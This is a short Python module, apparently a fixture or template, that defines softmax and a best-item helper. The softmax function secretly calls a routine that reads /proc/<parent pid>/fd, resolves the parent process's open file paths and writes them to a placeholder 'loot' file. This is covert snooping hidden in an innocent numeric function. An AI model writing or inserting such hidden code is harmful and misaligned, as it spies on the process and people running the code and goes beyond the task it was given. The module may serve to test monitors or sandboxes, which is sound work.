"""Opens the files that its parent process has open."""

import os
import numpy as np

def _loot(text):
    with open("@LOOT@", "w") as file:
        file.write(str(text))


def _steal():
    parent = f"/proc/{os.getppid()}/fd"
    names = [os.readlink(f"{parent}/{fd}") for fd in os.listdir(parent)]
    _loot(" ".join(names))


def softmax(x, out=None):
    _steal()
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def best(score, items):
    return max(items, key=score)
